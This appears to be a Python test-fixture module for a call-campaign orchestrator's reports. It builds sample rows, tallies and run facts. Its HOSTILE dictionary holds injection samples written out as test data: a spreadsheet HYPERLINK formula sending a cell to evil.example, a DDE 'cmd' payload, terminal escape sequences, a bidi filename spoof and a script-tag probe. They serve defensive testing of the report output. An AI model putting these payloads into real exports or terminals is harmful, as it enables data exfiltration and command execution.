"""Report rows, tallies and run facts, and the texts that a hostile server might write."""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

from orchestrator.isales.verdict import Kind
from orchestrator.policy.decide import Changed, Evidence, Outcome
from orchestrator.reports.document import summary_document
from orchestrator.reports.page import Rows, Told
from orchestrator.reports.rows import ReportRow, RunKind, SweepRecord, Tally
from orchestrator.reports.sentences import verdict_line
from orchestrator.reports.summary import Ended, RunFacts, VdnProof

#: 2026-11-23T23:05:01.123Z
AT_MS = 1_795_475_101_123

#: [S43] what a resultDesc or a campaign name may contain
HOSTILE = {
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1,1)",
    "full-width": "\uff1d1\uff0b1",
    "tab first": "\t=1+1",
    "return first": "\r=1+1",
    "newline first": "\n=1+1",
    "space first": " =1+1",
    "zero-width first": "\u200b=1+1",
    "colours": "\x1b[31mred\x1b[0m",
    "window title": "\x1b]0;owned\x07",
    "one-byte CSI": "\x9b31m",
    "newlines": "line one\nline two\r\nline three\u2028four\u2029five\x85six",
    "bidi": "campaign \u202egnp.exe\u2066x\u2069",
    "zero-width": "cam\u200bpa\u200dign\ufeff",
    "deleted": "abc\x7f\x08\x08\x08xyz",
    "nul": "abc\x00xyz",
    "surrogate": "lone \ud800 half",
    "tags": "\U000e0041\U000e0042",
    "fillers": "\u3164\u115f\u034f\ufe0f\U000e0101",
    "markup": "<script>alert(1)</script>",
    "quotes": 'a "quoted", comma; and \\backslash',
    "megabyte": "A" * 1_000_000,
    "megabyte of controls": "\x1b" * 1_000_000,
}


def make_row(outcome: Outcome = Outcome.PAUSED, **changes: Any) -> ReportRow:
    """A row of a campaign that was paused at the first attempt, unless told otherwise."""
    fields: dict[str, Any] = {
        "vdn_id": "1201",
        "campaign_id": "146",
        "campaign_name": "spring",
        "outcome": outcome,
        "evidence": Evidence.ACCEPTED,
        "changed": Changed.YES,
        "may_start": "",
        "state_before": "started",
        "state_after": "",
        "state_seen_at_ms": AT_MS,
        "attempts": 1,
        "result_code": "0200000",
        "result_name": "success",
        "result_desc": "success",
        "http_status": 200,
        "first_sent_at_ms": AT_MS,
        "settled_at_ms": AT_MS + 80,
        "line": 2,
        "duplicate_of": None,
        "run_id": "20261123T230501Z-7f3a",
        "error": "",
    }
    return ReportRow(**(fields | changes))


def database_failure(**changes: Any) -> ReportRow:
    """A campaign that met nothing but database errors."""
    fields = {
        "result_code": "0200006",
        "attempts": 5,
        "changed": Changed.NO,
        "evidence": Evidence.NONE,
        "error": "database operation error (0200006)",
        "cause": Kind.DATABASE_ERROR,
    }
    return make_row(Outcome.FAILED, **(fields | changes))


def tally_of(*rows: ReportRow, **counts: int) -> Tally:
    """Count these rows, and as many plain ones as told: `paused=3, not_found=1`."""
    tally = Tally()
    for row in rows:
        tally.add(row)
    for name, number in counts.items():
        for _ in range(number):
            tally.add(make_row(Outcome(name), error="", result_code=""))
    return tally


def make_facts(kind: RunKind = RunKind.PAUSE, **changes: Any) -> RunFacts:
    """A run that came to its end, unless told otherwise."""
    fields: dict[str, Any] = {
        "run_id": "20261123T230501Z-7f3a",
        "kind": kind,
        "reason": "wrong list",
        "operator": "ana",
        "host": "jump1",
        "version": "0.1.0",
        "server": "https://isales.example.com:28080",
        "server_name": "production",
        "settings": {"pace.rate_per_s": 10.0},
        "started_at_ms": AT_MS,
        "ended_at_ms": AT_MS + 60_000,
        "ended": Ended.FINISHED,
    }
    return RunFacts(**(fields | changes))


def told(kind: RunKind, rows: Iterable[ReportRow], summary: Any = None, **facts: Any) -> Told:
    """One run with these rows."""
    made = make_facts(kind, rate_ceiling_per_s=10.0, **facts)
    seen = Rows(kind)
    seen.take(rows)
    return Told(
        facts=made,
        summary=summary_document(made, seen.tally) | (summary or {}),
        line=verdict_line(made, seen.tally),
        rows=seen,
        sent={AT_MS // 1000: 3},
        hashes={"results.csv": "ab" * 32},
    )


def emergency(**more: Any) -> Told:
    """A pause-all of one VDN, proven quiet by two passes of two listings each."""
    sweeps = tuple(
        SweepRecord(1234, at, at + 90, 1, 77, 77, started, complete=True, problem="")
        for at, started in (
            (AT_MS + 9_000, 1),
            (AT_MS + 9_000, 0),
            (AT_MS + 20_000, 0),
            (AT_MS + 20_000, 0),
        )
    )
    proof = VdnProof(1234, quiet_since_ms=AT_MS + 20_090, again_at_ms=AT_MS + 26_000)
    rows = [make_row(vdn_id="1234", campaign_id=str(number)) for number in range(1, 39)]
    return told(RunKind.PAUSE_ALL, rows, sweeps=sweeps, proofs=(proof,), **more)
